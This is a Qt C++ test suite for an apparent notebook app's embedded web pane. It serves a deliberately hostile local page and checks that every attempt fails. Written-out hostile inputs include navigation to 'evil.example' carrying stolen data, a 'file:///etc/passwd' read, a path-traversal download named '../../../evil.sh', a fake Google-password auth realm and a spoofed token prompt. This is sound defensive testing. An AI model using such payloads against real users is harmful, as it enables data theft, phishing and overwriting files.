// SPDX-License-Identifier: Apache-2.0
// A notebook server that means harm, on the one origin that a page may use: what it tries must neither get out nor bring anything in.
#include "support/loopback_server.h"
#include "ui/common/error_banner.h"
#include "ui/notebook/engine_gate.h"
#include "ui/notebook/page_frame.h"
#include "ui/notebook/web_notebook_pane.h"
#include "web/page_answers.h"

#include <QClipboard>
#include <QFile>
#include <QGuiApplication>
#include <QPushButton>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTabWidget>
#include <QTemporaryDir>
#include <QTest>
#include <QUdpSocket>

#include <sys/socket.h>

#include <atomic>
#include <csignal>

using namespace nimbook;
using nimbook::testing::evaluate;
using nimbook::testing::LoopbackServer;
using nimbook::testing::waitForScript;
using nimbook::ui::WebNotebookPane;

namespace {

QByteArray httpAnswer(const char *status, const QByteArray &headers, const QByteArray &body)
{
    return QByteArray("HTTP/1.1 ") + status + "\r\nConnection: close\r\n" + headers + "Content-Length: " + QByteArray::number(body.size()) + "\r\n\r\n" + body;
}

/// What the page tries, from tests/web/hostile.
QString hostileScript(const char *name)
{
    QFile file(qEnvironmentVariable("NIMBOOK_SOURCE_DIR") + QStringLiteral("/tests/web/hostile/") + QLatin1String(name));
    return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
}

/// One request, one answer.
void serveHostilePage(int socket, quint16 trapPort)
{
    QByteArray request;
    while (!request.contains("\r\n\r\n")) {
        char buffer[4096];
        const auto count = ::recv(socket, buffer, sizeof buffer, 0);
        if (count <= 0)
            return;
        request.append(buffer, count);
    }
    const QByteArray path = request.split(' ').value(1);
    const QByteArray trap = "http://127.0.0.1:" + QByteArray::number(trapPort);
    if (path == "/sw.js") {
        testing::sendAll(socket, httpAnswer("200 OK", "Content-Type: text/javascript\r\n",
                                            "self.oninstall = e => e.waitUntil(fetch('" + trap + "/from-service-worker').catch(() => 0))"));
    } else if (path == "/worker.js") {
        testing::sendAll(socket, httpAnswer("200 OK", "Content-Type: text/javascript\r\n",
                                            "fetch('" + trap + "/from-worker').catch(() => 0).then(() => postMessage('tried'))"));
    } else if (path == "/redirect") {
        testing::sendAll(socket, httpAnswer("302 Found", "Location: " + trap + "/redirected\r\nAccess-Control-Allow-Origin: *\r\n", {}));
    } else if (path == "/password") {
        testing::sendAll(socket, httpAnswer("401 Unauthorized", "WWW-Authenticate: Basic realm=\"Your Google password\"\r\n", "no"));
    } else if (path.startsWith("/offer")) {
        testing::sendAll(socket, httpAnswer("200 OK", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"../../../evil.sh\"\r\n",
                                            "#!/bin/sh\n"));
    } else {
        testing::sendAll(socket, httpAnswer("200 OK", "Content-Type: text/html\r\n",
                                            "<!doctype html><title>Notebook</title><body style='background:#fff'><p>hostile</p><input id=field>"
                                            "<video></video>"));
    }
}

} // namespace

class HostilePageTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        m_trap = std::make_unique<LoopbackServer>([this](int socket) {
            char words[2000] = {};
            const timeval limit{1, 0};
            ::setsockopt(socket, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
            (void)::recv(socket, words, sizeof words - 1, 0);
            qWarning("caught: %s", QByteArray(words).left(1500).constData()); // says which way out it was
            ++m_caught;
        });
        m_server = std::make_unique<LoopbackServer>([port = m_trap->port()](int socket) { serveHostilePage(socket, port); });
        m_pane = std::make_unique<WebNotebookPane>(m_gate, m_folder.path() + "/deep/down/Downloads");
        m_pane->openExternally = [this](const QUrl &url) { m_external.append(url); };
        m_pane->resize(900, 600);
        m_pane->show();
        m_pane->open(QUrl(QStringLiteral("http://127.0.0.1:%1/").arg(m_server->port())), Secret("deadbeef"));
        QVERIFY(waitForScript(m_pane->currentView(), "document.title === 'Notebook'"));
    }

    void cleanupTestCase()
    {
        m_pane.reset();
        m_server.reset();
        m_trap.reset();
    }

    void cleanup()
    {
        while (m_pane->tabs()->count() > 1)
            Q_EMIT m_pane->tabs()->tabCloseRequested(m_pane->tabs()->count() - 1);
        m_pane->tabs()->setCurrentIndex(0);
        // A question that a test left open would stand before those of the next: with Qt 6.8 reading the clipboard asks.
        for (auto *refuse = refuseButton(); refuse && !bar()->isHidden(); refuse = refuseButton()) {
            refuse->click();
            QCoreApplication::processEvents();
        }
        bar()->clear();
        m_external.clear();
    }

    void everyWayToAnotherPort_staysShut()
    {
        const QString trap = QStringLiteral("127.0.0.1:%1").arg(m_trap->port());
        QSignalSpy refused(m_pane.get(), &WebNotebookPane::refused);
        evaluate(view(), hostileScript("other_ports.js").arg(trap));

        QVERIFY(waitForScript(view(), "window.tried >= 7"));
        QTRY_VERIFY_WITH_TIMEOUT(refused.count() >= 15, 20'000);
        QTest::qWait(500); // time for a connection that must not come
        QCOMPARE(m_caught.load(), 0);
        QCOMPARE(view()->url().port(), int(m_server->port()));
    }

    void webRtc_reachesNoServerOfThePagesChoice()
    {
        QUdpSocket udp;
        QVERIFY(udp.bind(QHostAddress::LocalHost));
        evaluate(view(), hostileScript("webrtc.js").arg(m_trap->port()).arg(udp.localPort()));
        QVERIFY(waitForScript(view(), "window.gathered === 2"));
        QTest::qWait(300);
        QCOMPARE(m_caught.load(), 0);
        QVERIFY(!udp.hasPendingDatagrams());
    }

    void filesAndTheProgramsOwnResources_cannotBeRead()
    {
        evaluate(view(), hostileScript("local_files.js"));
        QVERIFY(waitForScript(view(), "window.failed >= 6"));
        QCOMPARE(evaluate(view(), "window.read.length").toInt(), 0);
        QCOMPARE(view()->url().scheme(), "http");
    }

    void windowStorm_endsAtAFewTabsAndThePageGoesOn()
    {
        evaluate(view(), "for (let i = 0; i < 20; i++) window.open('/' + i)");
        QTRY_VERIFY_WITH_TIMEOUT(!bar()->isHidden(), 20'000);
        QVERIFY(m_pane->tabs()->count() <= 6);
        QVERIFY(waitForScript(view(), "6 * 7 === 42"));
        QVERIFY(m_external.isEmpty());
    }

    void windowToTheSystemsBrowser_doesNotOpenByItself()
    {
        evaluate(view(), "window.open('https://evil.example/?stolen=1'); window.open('mailto:a@b.example'); window.open('file:///etc/passwd')");
        evaluate(view(), "const away = document.createElement('a'); away.href = 'https://evil.example/?clicked=1'; document.body.appendChild(away); away.click()");
        evaluate(view(), "location.href = 'https://evil.example/?stolen=2'");
        QTest::qWait(300);
        QVERIFY(m_external.isEmpty());
        QCOMPARE(m_pane->tabs()->count(), 1);
    }

    void downloadNamedUpwards_staysInTheFolder()
    {
        QSignalSpy finished(m_pane.get(), &ui::NotebookPane::downloadFinished);
        evaluate(view(), "for (const n of [1, 2]) { const a = document.createElement('a'); a.href = '/offer' + n; a.download = '../../up' + n; document.body.appendChild(a); a.click() }");
        QTRY_VERIFY_WITH_TIMEOUT(finished.count() >= 1, 20'000);
        const QString folder = m_folder.path() + "/deep/down/Downloads/";
        for (const auto &arguments : finished)
            QVERIFY2(arguments.at(0).toString().startsWith(folder) && !arguments.at(0).toString().contains(".."), qPrintable(arguments.at(0).toString()));
        QCOMPARE(QDir(m_folder.path() + "/deep/down").entryList(QDir::AllEntries | QDir::NoDotAndDotDot), QStringList{"Downloads"});
    }

    void clipboard_isNotReadUntilAllowed()
    {
        QGuiApplication::clipboard()->setText("a password from elsewhere");
        view()->setFocus();
        evaluate(view(), hostileScript("clipboard.js"));
        QTest::qWait(500);
        QCOMPARE(evaluate(view(), "window.stolen").toString(), QString());
    }

    void place_isAskedAboutAndDeniedWithoutAYes()
    {
        evaluate(view(), "window.place = 'none'; navigator.geolocation.getCurrentPosition(() => window.place = 'known', e => window.place = 'code ' + e.code)");
        QTRY_VERIFY_WITH_TIMEOUT(!bar()->isHidden(), 20'000);
        QCOMPARE(evaluate(view(), "window.place").toString(), "none");
        evaluate(view(), "alert('Nimbook: press Allow to go on')"); // must not talk over the question
        QVERIFY2(!bar()->message().contains("press Allow"), qPrintable(bar()->message()));

        auto *refuse = bar()->findChild<QPushButton *>("refusePermissionButton");
        QVERIFY(refuse);
        refuse->click();
        QVERIFY(waitForScript(view(), "window.place === 'code 1'")); // PERMISSION_DENIED
        QTRY_VERIFY(bar()->isHidden());
    }

    void notifications_areAllowedOnlyByTheButton()
    {
        QCOMPARE(evaluate(view(), "Notification.permission").toString(), "default");
        evaluate(view(), "window.answer = ''; Notification.requestPermission().then(a => window.answer = a)");
        QTRY_VERIFY_WITH_TIMEOUT(!bar()->isHidden(), 20'000);
        bar()->findChild<QPushButton *>("allowPermissionButton")->click();
        QVERIFY(waitForScript(view(), "window.answer === 'granted'"));
    }

    void camera_isNotStartedWithoutAYes()
    {
        evaluate(view(), "window.camera = ''; if (navigator.mediaDevices) navigator.mediaDevices.getUserMedia({video: true, audio: true})"
                         ".then(() => window.camera = 'seen', () => window.camera = 'refused'); else window.camera = 'refused'");
        QTRY_VERIFY_WITH_TIMEOUT(!bar()->isHidden() || evaluate(view(), "window.camera").toString() == "refused", 20'000);
        if (auto *refuse = bar()->findChild<QPushButton *>("refusePermissionButton"))
            refuse->click();
        QVERIFY(waitForScript(view(), "window.camera === 'refused'"));
    }

    void fakeTokenPrompt_getsNothingAndStandsInThePagesOwnWords()
    {
        QCOMPARE(evaluate(view(), "String(prompt('Nimbook: your token has expired, type it again', 'x'))").toString(), "null");
        QTRY_VERIFY(!bar()->isHidden());
        QVERIFY(bar()->message().contains("your token has expired"));
    }

    void passwordAskedByTheServer_isRefusedWithoutADialog()
    {
        evaluate(view(), "window.status = 0; fetch('/password').then(r => window.status = r.status, () => window.status = -1)");
        QVERIFY(waitForScript(view(), "window.status !== 0"));
        QVERIFY(QApplication::topLevelWidgets().size() >= 1);
        QVERIFY(!QApplication::activeModalWidget());
    }

    void deadRenderer_isLoadedAgainAndTheSecondTimeOffersWaysOut()
    {
        const auto kill = [this] {
            const qint64 pid = view()->page()->renderProcessPid();
            QVERIFY(pid > 0);
            ::kill(pid_t(pid), SIGKILL);
        };
        evaluate(view(), "window.marker = 1");
        kill();
        QTRY_VERIFY_WITH_TIMEOUT(!bar()->isHidden(), 20'000);
        QVERIFY(waitForScript(view(), "document.title === 'Notebook' && window.marker === undefined"));
        bar()->clear();
        kill();
        QTRY_VERIFY_WITH_TIMEOUT(bar()->findChild<QPushButton *>("reloadPageButton") != nullptr, 20'000);
        QSignalSpy software(m_pane.get(), &ui::NotebookPane::softwareRenderingWanted);
        bar()->findChild<QPushButton *>("softwareRenderingButton")->click();
        QTRY_COMPARE(software.count(), 1);
        view()->reload();
        QVERIFY(waitForScript(view(), "document.title === 'Notebook'"));
    }

    void storageAndPermissions_areGoneWithTheMachine()
    {
        evaluate(view(), "localStorage.setItem('kept', '1'); document.cookie = 'kept=1; max-age=10000'");
        m_pane->closeAll();
        m_pane->open(QUrl(QStringLiteral("http://127.0.0.1:%1/").arg(m_server->port())), Secret("deadbeef"));
        QVERIFY(waitForScript(view(), "document.title === 'Notebook'"));
        QCOMPARE(evaluate(view(), "String(localStorage.getItem('kept')) + document.cookie").toString(), "null");
        QCOMPARE(evaluate(view(), "Notification.permission").toString(), "default");
    }

private:
    QWebEngineView *view() const { return m_pane->currentView(); }
    ui::ErrorBanner *bar() const { return qobject_cast<ui::PageFrame *>(m_pane->tabs()->widget(0))->findChild<ui::ErrorBanner *>("pageBanner"); }
    QPushButton *refuseButton() const { return bar()->findChild<QPushButton *>("refusePermissionButton"); }

    QTemporaryDir m_folder;
    std::atomic<int> m_caught = 0;
    std::unique_ptr<LoopbackServer> m_trap;
    std::unique_ptr<LoopbackServer> m_server;
    QList<QUrl> m_external;
    std::shared_ptr<ui::EngineGate> m_gate = std::make_shared<ui::EngineGate>();
    std::unique_ptr<WebNotebookPane> m_pane;
};

QTEST_MAIN(HostilePageTest)
#include "hostile_page_test.moc"
